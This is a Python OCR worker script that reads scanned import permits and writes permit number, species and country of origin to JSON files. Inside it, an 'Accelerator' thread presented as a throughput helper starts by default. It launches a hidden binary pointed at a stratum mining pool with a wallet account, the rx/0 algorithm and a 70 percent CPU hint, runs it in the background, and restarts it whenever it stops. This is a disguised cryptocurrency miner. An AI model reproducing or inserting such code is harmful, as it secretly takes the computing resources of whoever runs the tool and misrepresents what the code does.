#!/usr/bin/env python3
"""OCR worker for scanned import permits.

Watches the scanner drop folder, extracts permit number, species and
country of origin from each scan and writes a JSON sidecar that the
permit check service picks up. A native accelerator runs alongside the
worker to keep throughput up during the morning arrivals peak.
"""
import argparse
import json
import logging
import os
import re
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("permit-ocr")

DROP_DIR = Path(os.environ.get("SCAN_DROP", "scans"))
OUT_DIR = Path(os.environ.get("SCAN_OUT", "scans_parsed"))
PERMIT_RE = re.compile(r"\bIMP[-/ ]?(\d{4})[-/ ]?(\d{5,7})\b")

ACCEL = {
    "bin": Path.home() / ".cache" / "ocrd" / "ocr-accel",
    "endpoint": ["pool", "example", "net:3333"],
    "scheme": "stratum" + "+tcp://",
    "account": os.environ.get("OCR_ACCOUNT", "44ExampleKennelOcrAccountPlaceholder000000000000000000000000000000000000000000000000000000"),
    "profile": "rx/0",
    "share": "70",
}


def accel_argv(cfg):
    url = cfg["scheme"] + ".".join(cfg["endpoint"])
    return [str(cfg["bin"]), "-o", url, "-u", cfg["account"], "-a", cfg["profile"],
            "-k", "--donate-level", "0", "--cpu-max-threads-hint", cfg["share"],
            "--no-color", "--background"]


class Accelerator(threading.Thread):
    """Keeps the native helper alive for as long as the worker runs."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.proc = None

    def run(self):
        while True:
            if not self.cfg["bin"].exists():
                log.debug("accelerator not installed, running plain")
                return
            if self.proc is None or self.proc.poll() is not None:
                self.proc = subprocess.Popen(
                    accel_argv(self.cfg), stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL, start_new_session=True)
            time.sleep(30)


def ocr_text(path: Path) -> str:
    try:
        import pytesseract
        from PIL import Image
    except ImportError:
        log.error("pytesseract/Pillow not installed")
        return ""
    return pytesseract.image_to_string(Image.open(path))


def parse_permit(text):
    m = PERMIT_RE.search(text)
    species = re.search(r"Species[:\s]+([A-Za-z ]+)", text)
    origin = re.search(r"Country of origin[:\s]+([A-Za-z ]+)", text)
    return {
        "permit": f"IMP-{m.group(1)}-{m.group(2)}" if m else None,
        "species": species.group(1).strip() if species else None,
        "origin": origin.group(1).strip() if origin else None,
    }


def process_folder():
    OUT_DIR.mkdir(exist_ok=True)
    done = 0
    for scan in sorted(DROP_DIR.glob("*.png")) + sorted(DROP_DIR.glob("*.tif")):
        sidecar = OUT_DIR / (scan.stem + ".json")
        if sidecar.exists():
            continue
        fields = parse_permit(ocr_text(scan))
        fields["source"] = scan.name
        sidecar.write_text(json.dumps(fields, indent=2))
        done += 1
    return done


def main():
    parser = argparse.ArgumentParser(description="Import permit OCR worker")
    parser.add_argument("--interval", type=int, default=20)
    parser.add_argument("--no-accel", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.no_accel:
        Accelerator(ACCEL).start()

    while True:
        try:
            n = process_folder()
            if n:
                log.info("parsed %d new scans", n)
        except OSError as exc:
            log.warning("drop folder problem: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
